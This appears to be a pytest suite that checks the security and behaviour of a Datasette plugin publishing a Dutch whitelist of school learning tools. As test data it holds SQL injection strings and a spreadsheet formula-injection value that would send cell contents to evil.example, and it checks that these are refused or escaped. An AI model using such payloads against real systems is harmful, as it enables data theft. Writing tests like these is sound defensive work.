"""The published whitelist as a plain `datasette witte-lijst.db -m datasette-metadata.json`
serves it: the plugin comes in through its entry point, nothing else is configured."""

from __future__ import annotations

import datetime as dt
import json
import re
import urllib.parse
from pathlib import Path

import pytest
from datasette.app import Datasette

from registry.db import Registry
from registry.importer import load_demo
from registry.publish import publish
from registry.whitelist.datasette import fold_search

TODAY = dt.date(2026, 11, 28)
ROOT = Path(__file__).parent.parent
METADATA = json.loads((ROOT / "datasette-metadata.json").read_text())
DB = "/witte-lijst"
TABLES = ["tools", "vendors", "domains", "assessments", "changes", "publication"]


@pytest.fixture(scope="module")
def whitelist(demo_file_with_secrets) -> Path:
    return demo_file_with_secrets


def serve(whitelist: Path, loop, **kwargs) -> Datasette:
    datasette = Datasette([str(whitelist)], **kwargs)
    loop.run_until_complete(datasette.invoke_startup())
    return datasette


@pytest.fixture(scope="module")
def datasette(whitelist, loop) -> Datasette:
    return serve(whitelist, loop, metadata=METADATA)


@pytest.fixture(scope="module")
def get(datasette, loop):
    def get(path: str, ds: Datasette = datasette):
        return loop.run_until_complete(ds.client.get(path))

    return get


def ids(response) -> list[str]:
    assert response.status_code == 200, response.text
    return [row["id"] for row in response.json()]


# --- no arbitrary SQL -----------------------------------------------------------------------


@pytest.mark.parametrize("path", [
    f"{DB}.json?sql=select+*+from+tools",
    f"{DB}?sql=select+1",
    f"{DB}/tools.json?_where=1=1",
    f"{DB}/tools?_where=id+like+'%25'",
])
def test_arbitrary_sql_is_refused(get, path):
    assert get(path).status_code in (400, 403)


def test_sql_is_refused_without_the_metadata_too(whitelist, loop):
    bare = serve(whitelist, loop)
    response = loop.run_until_complete(bare.client.get(f"{DB}.json?sql=select+1"))
    assert response.status_code == 403


@pytest.mark.parametrize("value", [
    "x') or 1=1 --",
    "PO\"]",
    "') union select name from sqlite_master --",
])
def test_arraycontains_matches_values_only(get, value):
    response = get(f"{DB}/tools.json?_shape=array&_col=id&level_codes__arraycontains="
                   + value.replace(" ", "+").replace("%", "%25"))
    assert response.status_code in (200, 400)
    assert response.status_code == 400 or response.json() == []


def test_arraycontains_filters_on_a_level(get):
    assert ids(get(f"{DB}/tools.json?_shape=array&_col=id&level_codes__arraycontains=SO")) == [
        "bordwerk-whiteboard", "maakplaats-klassenklok", "maakplaats-quiz", "schoolplein-las",
        "schoolplein-ouders", "sommenstad-oefenen", "taaltuin-spelling",
    ]


# --- canned queries and the feed ----------------------------------------------------------


def test_canned_queries_answer_the_common_questions(get):
    assert ids(get(f"{DB}/toegestaan_po.json?_shape=array")) == [
        "maakplaats-studio", "schoolplein-las", "noorderlicht-rekenen", "taaltuin-lezen",
        "kluis-app", "maakplaats-quiz", "sommenstad-oefenen", "taaltuin-spelling",
        "maakplaats-klassenklok", "bordwerk-whiteboard",
    ]
    changes = get(f"{DB}/wijzigingen.json?_shape=array").json()
    assert len(changes) == 27 and {c["change_label"] for c in changes} == {"Toegevoegd"}

    vendors = {v["id"]: v for v in get(f"{DB}/tools_per_leverancier.json?_shape=array").json()}
    assert vendors["lernfabrik-digital"] == {
        "id": "lernfabrik-digital", "name": "Lernfabrik Digital GmbH (demo)",
        "covenant_label": "Deelnemer", "tools": 4, "toegestaan": 1, "niet_toegestaan": 2,
    }
    soon = get(f"{DB}/oordeel_verandert.json?_shape=array").json()
    assert (soon[0]["id"], soon[0]["verdict_changes_on"]) == ("sommenstad-oefenen", "2027-01-16")


@pytest.mark.parametrize("host, expected", [
    ("ToetS.toetsmeester-demo.nl", ["toetsmeester-toetsen"]),
    ("school-12.schoolplein-demo.nl", ["schoolplein-las"]),  # subdomains count for this tool
    ("x.rekenen.noorderlicht-demo.nl", []),  # not for this one
    ("evil-schoolplein-demo.nl", []),
])
def test_host_lookup(get, host, expected):
    assert ids(get(f"{DB}/webadres.json?_shape=array&host={host}")) == expected


def test_the_old_feed_address_leads_to_the_change_feed(get):
    # The canned query's feed is gone (tests/test_feed.py tests the feed itself); links and
    # feed readers that know its address are sent on, for good.
    response = get(f"{DB}/wijzigingen_feed.atom")  # Datasette's client does not follow
    assert response.status_code == 301
    assert response.headers["location"].endswith("/-/wijzigingen.atom")


# --- facets and search ------------------------------------------------------------------------


def test_facets_from_the_metadata(get):
    data = get(f"{DB}/tools.json?_size=0").json()
    facets = data["facet_results"]
    assert sorted(facets) == ["agreement_status_label", "category_label", "level_codes",
                              "pseudonymisation_label", "verdict_label"]
    assert {r["value"]: r["count"] for r in facets["level_codes"]["results"]} == {
        "VO": 18, "PO": 17, "SO": 7}
    assert {r["value"]: r["count"] for r in facets["verdict_label"]["results"]} == {
        "Niet toegestaan": 9, "Toegestaan": 9, "Toegestaan onder voorwaarden": 5,
        "In beoordeling": 2, "Niet beoordeeld": 2,
    }
    assert data["suggested_facets"] == []


def test_level_facet_selects_and_survives_a_non_json_column(get):
    data = get(f"{DB}/tools.json?_size=0&level_codes__arraycontains=SO").json()
    levels = {r["value"]: (r["count"], r["selected"]) for r in
              data["facet_results"]["level_codes"]["results"]}
    assert levels == {"SO": (7, True), "PO": (7, False), "VO": (5, False)}
    assert get(f"{DB}/tools.json?_size=0&_facet_unique_array=name").status_code == 200


@pytest.mark.parametrize("q, expected", [
    ("reken", ["noorderlicht-rekenen", "sommenstad-oefenen"]),  # "rekenen" in a description
    ("REKEN", ["noorderlicht-rekenen", "sommenstad-oefenen"]),
    ("toetsm", ["toetsmeester-examentrainer", "toetsmeester-toetsen"]),
    ("Ëxamen", ["toetsmeester-examentrainer"]),
    ("exámentrainer", ["toetsmeester-examentrainer"]),
    ("tafel toetsm", []),  # every word must match
    ("woordjes.lernfabrik-demo.de", ["lernfabrik-woordjes"]),
    ("oefenomgeving", ["toetsmeester-examentrainer"]),  # from the description
    ('" OR NOT (', []),  # FTS syntax is not passed on: the words "or" and "not" match nothing
])
def test_search_is_case_accent_insensitive_and_by_prefix(get, q, expected):
    query = urllib.parse.urlencode({"_search": q})
    assert ids(get(f"{DB}/tools.json?_shape=array&_col=id&_sort=id&{query}")) == expected


def test_a_search_without_words_is_no_search(get):
    assert len(ids(get(f"{DB}/tools.json?_shape=array&_col=id&_size=max&_search=%22*()"))) == 27


def test_fold_search_rewrites_only_search_parameters():
    assert fold_search(b"_search=%C3%8Bxamen+Reken&_facet=x") == (
        b"_search=examen%2A+reken%2A&_facet=x&_searchmode=raw")
    assert fold_search(b"_searchmode=raw&_fts_table=vendors&_search=%22a%22*") == (
        b"_search=a%2A&_searchmode=raw")
    assert fold_search(b"_sort=name&level=PO") == b"_sort=name&level=PO"


# --- settings, pages, privacy -----------------------------------------------------------------


def test_plugin_applies_fast_settings(get):
    settings = get("/-/settings.json").json()
    assert {k: settings[k] for k in ("suggest_facets", "default_page_size", "max_returned_rows",
                                     "sql_time_limit_ms", "facet_time_limit_ms",
                                     "default_allow_sql")} == {
        "suggest_facets": False, "default_page_size": 25, "max_returned_rows": 500,
        "sql_time_limit_ms": 1000, "facet_time_limit_ms": 500, "default_allow_sql": False,
    }
    assert len(get(f"{DB}/vendors.json?_shape=array").json()) == 13


def test_settings_the_operator_chose_are_kept(whitelist, loop):
    chosen = serve(whitelist, loop, settings={"default_page_size": 50, "suggest_facets": False})
    assert chosen.setting("default_page_size") == 50 and chosen.page_size == 50


PAGES = ["/", DB, *(f"{DB}/{t}" for t in TABLES), f"{DB}/tools/kaartenbak-topografie",
         f"{DB}/toegestaan_po", f"{DB}/tools?_search=reken"]


@pytest.mark.parametrize("path", PAGES)
def test_pages_are_dutch_with_the_disclaimer(get, path):
    response = get(path)
    assert response.status_code == 200
    html = response.text
    assert '<html lang="nl">' in html
    assert "geen juridisch advies" in html
    assert re.search(r"Publicatie 1 van \d{1,2} \w+ \d{4}:\s+oordelen per 28 november 2026, "
                     r"volgens minimumeisen versie 2026\.1\.", html)
    assert "default-src 'self'" in response.headers["content-security-policy"]


@pytest.mark.parametrize("path", PAGES)
def test_pages_load_nothing_from_elsewhere(get, path):
    html = get(path).text
    assets = re.findall(r"<(?:script|img|iframe|source)\b[^>]*\bsrc=[\"']([^\"']+)", html)
    assets += re.findall(r"<link\b[^>]*\bhref=[\"']([^\"']+)", html)
    assert assets, "no assets found: the pattern is wrong"
    assert [a for a in assets if not re.match(r"(/[^/]|http://localhost/)", a)] == []


def test_index_shows_the_dutch_title(get):
    assert "<h1>Witte lijst digitale leermiddelen</h1>" in get("/").text


def test_technical_columns_are_hidden_in_html_only(get):
    html = get(f"{DB}/tools").text
    assert 'data-column="search"' not in html and 'data-column="name_key"' not in html
    assert 'data-column="verdict_label"' in html
    row = get(f"{DB}/tools.json?_shape=array&id=noorderlicht-rekenen").json()[0]
    assert row["name_key"] == "noorderlicht rekenen demo"


def test_lists_render_as_lists(get):
    html = get(f"{DB}/tools/kaartenbak-topografie").text
    assert ('<li><a href="/witte-lijst/tools/sommenstad-oefenen">Sommenstad Oefenen (demo)'
            "</a></li>") in html
    assert "<li>✘ De verwerkersovereenkomst volgt het Model Verwerkersovereenkomst 2.0. " in html


def test_no_marker_in_any_response(get, whitelist, secrets):
    paths = ["/", DB, f"{DB}.json", f"{DB}/tools/kluis-app", f"{DB}/tools/kluis-app.json",
             "/-/metadata.json"]
    for table in TABLES:
        paths += [f"{DB}/{table}", f"{DB}/{table}.json?_size=max", f"{DB}/{table}.csv?_size=max",
                  f"{DB}/{table}.json?_search=geheim"]
    paths += [f"{DB}/{q}.json" for q in METADATA["databases"]["witte-lijst"]["queries"]
              if q != "webadres"]
    paths.append(f"{DB}/webadres.json?host=app.kluis.example")
    # The archived tool's host is not there (the answer echoes the question, so check rows).
    assert ids(get(f"{DB}/webadres.json?_shape=array&host=geheim-7f3a.kluis.example")) == []
    assert "kluis-app" in get(f"{DB}/tools.csv?_size=max").text  # the tool itself is there
    for path in paths:
        response = get(path)
        assert response.status_code == 200, path
        assert secrets.marker.lower() not in response.text.lower(), path
        assert secrets.phone not in response.text, path


# --- hardening II: the same rules without the app ---------------------------------------------

FORMULA_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"klik")'


@pytest.fixture(scope="module")
def formula_whitelist(tmp_path_factory) -> Path:
    """The demo data and a tool whose name and description start with formula characters."""
    from registry import models

    folder = tmp_path_factory.mktemp("formula")
    registry = Registry(folder / "registry.db")
    registry.migrate()
    load_demo(registry)
    registry.create("tools", models.ToolIn(
        id="formule", vendor_id="bordwerk", name=FORMULA_NAME, description="+31 6, -1",
        category=models.Category.productivity, levels=[models.Level.PO],
    ), "inkoop")
    publish(registry, folder / "witte-lijst.db", TODAY, "sector")
    registry.close()
    return folder / "witte-lijst.db"


@pytest.mark.parametrize("path", [f"{DB}/tools.csv?_size=max", f"{DB}/tools.csv?_stream=on&_dl=1",
                                  f"{DB}/changes.csv?_stream=on", f"{DB}/tools/formule.csv"])
def test_csv_cells_are_never_formulas(formula_whitelist, loop, path):
    import csv
    import io

    datasette = serve(formula_whitelist, loop, metadata=METADATA)
    response = loop.run_until_complete(datasette.client.get(path))
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.text)) for c in row]
    assert "'" + FORMULA_NAME in cells
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


@pytest.mark.parametrize("path", ["/-/messages", "/-/actor.json", DB, f"{DB}/tools",
                                  f"{DB}/tools/kaartenbak-topografie", f"{DB}/tools.csv",
                                  f"{DB}/tools.json", "/-/logout"])
def test_no_answer_sets_a_cookie(get, path):
    response = get(path)
    assert response.status_code < 500
    assert "set-cookie" not in response.headers
    assert (response.status_code == 404) == (path in ("/-/messages", "/-/logout"))


@pytest.mark.parametrize(("path", "status"), [
    (f"{DB}/tools.json?_sort=name&_sort_desc=id", 400),
    (f"{DB}/domains/anything", 404),
    (f"{DB}/tools.json?name__arraycontains=x", 400),
])
def test_malformed_addresses_are_400_or_404(get, path, status):
    assert get(path).status_code == status


def test_the_download_sends_no_transfer_encoding(whitelist, loop):
    # An ASGI app must not set Transfer-Encoding: with it and Content-Length, granian dropped
    # the connection. Only an immutable file may be downloaded (`datasette -i`).
    datasette = Datasette(immutables=[str(whitelist)], metadata=METADATA)
    loop.run_until_complete(datasette.invoke_startup())
    response = loop.run_until_complete(datasette.client.get(f"{DB}.db"))
    assert response.status_code == 200
    assert "transfer-encoding" not in response.headers
    assert response.content == whitelist.read_bytes()


# --- the package and what it relies on of Datasette --------------------------------------------


def test_the_package_ships_the_repositorys_metadata():
    """`datasette witte-lijst.db -m datasette-metadata.json` and the mount (which reads the
    package's copy: a wheel has no repository) serve the same metadata."""
    from registry.whitelist.datasette import METADATA as PACKAGED
    from registry.whitelist.mount import METADATA_PATH

    assert METADATA_PATH == PACKAGED
    assert PACKAGED.read_bytes() == (ROOT / "datasette-metadata.json").read_bytes()


def test_the_mount_refuses_to_run_without_its_metadata(tmp_path):
    from registry.whitelist.mount import DatasetteMount

    with pytest.raises(FileNotFoundError):
        DatasetteMount(tmp_path / "witte-lijst.db", "/lijst", metadata_path=tmp_path / "none.json")


def test_the_datasette_internals_we_rely_on_are_there(datasette, loop):
    """Fails on a Datasette upgrade that changes what `internals.py` relies on."""
    from datasette.app import DEFAULT_SETTINGS
    from datasette.utils.asgi import NotFound
    from datasette.views.base import DatasetteError
    from markupsafe import Markup

    from registry.whitelist.datasette import SETTINGS
    from registry.whitelist.datasette.internals import apply_default_settings, error_details

    fresh = Datasette(memory=True)
    assert set(SETTINGS) <= set(DEFAULT_SETTINGS)
    assert fresh.setting("default_page_size") == fresh._settings["default_page_size"]
    assert fresh.page_size == fresh.setting("default_page_size")
    apply_default_settings(fresh, {"default_page_size": 7, "max_returned_rows": 70,
                                   "sql_time_limit_ms": 700})
    assert (fresh.setting("default_page_size"), fresh.page_size) == (7, 7)
    assert (fresh.max_returned_rows, fresh.sql_time_limit_ms) == (70, 700)

    html = DatasetteError("<b>Fout</b>", title="Titel", status=418, message_is_html=True)
    assert error_details(html) == (418, Markup("<b>Fout</b>"), "Titel", {})
    assert error_details(NotFound("Weg")) == (404, "Weg", None, {})
    assert error_details(ValueError("x")) == (500, "x", None, {})


def test_the_sortable_columns_are_datasettes(datasette, loop, tmp_path):
    """`queries.sortable` reads Datasette's rule from public parts; its table view's own
    (private) method must still agree: the metadata's columns, else all, and rowid for a table
    without a primary key."""
    import sqlite3

    from datasette.views.table import TableView

    from registry.whitelist.datasette.queries import sortable

    conn = sqlite3.connect(tmp_path / "t.db")
    conn.executescript("CREATE TABLE plain (a, b); CREATE TABLE chosen (id PRIMARY KEY, a, b);")
    conn.close()
    metadata = {"databases": {"t": {"tables": {"chosen": {"sortable_columns": ["a"]}}}}}
    other = serve(tmp_path / "t.db", loop, metadata=metadata)
    cases = [(datasette, "witte-lijst", t) for t in TABLES] + [
        (other, "t", "plain"), (other, "t", "chosen")]
    for ds, name, table in cases:
        db = ds.get_database(name)
        use_rowid = not loop.run_until_complete(db.primary_keys(table))
        theirs = TableView(ds).sortable_columns_for_table(name, table, use_rowid)
        ours = loop.run_until_complete(sortable(ds, db, table))
        assert ours == loop.run_until_complete(theirs), table
    assert loop.run_until_complete(sortable(other, other.get_database("t"), "plain")) == {
        "a", "b", "rowid"}
    assert loop.run_until_complete(sortable(other, other.get_database("t"), "chosen")) == {"a"}


def test_the_row_route_is_datasettes():
    import inspect

    import datasette.app

    from registry.whitelist.datasette.queries import ROW_ROUTE

    assert ROW_ROUTE.match("/witte-lijst/tools/rekenrijk.json")["pks"] == "rekenrijk"
    assert r"/(?P<pks>[^/]+?)(\.(?P<format>\w+))?$" in inspect.getsource(datasette.app)


def test_a_real_error_keeps_only_a_plain_traceback(get, capsys, monkeypatch):
    """Datasette's own handler prints with rich, the asker's request among its locals."""
    from registry.whitelist.datasette import pages

    class Broken:
        @staticmethod
        def loads(value):
            raise RuntimeError("kapot")

    monkeypatch.setattr(pages, "json", Broken)  # render_cell reads a list column with it
    response = get(f"{DB}/tools")
    assert response.status_code == 500
    out, err = capsys.readouterr()
    assert "RuntimeError: kapot" in err and "Traceback (most recent call last)" in err
    assert "╭" not in out + err  # rich draws a box around each frame and its locals
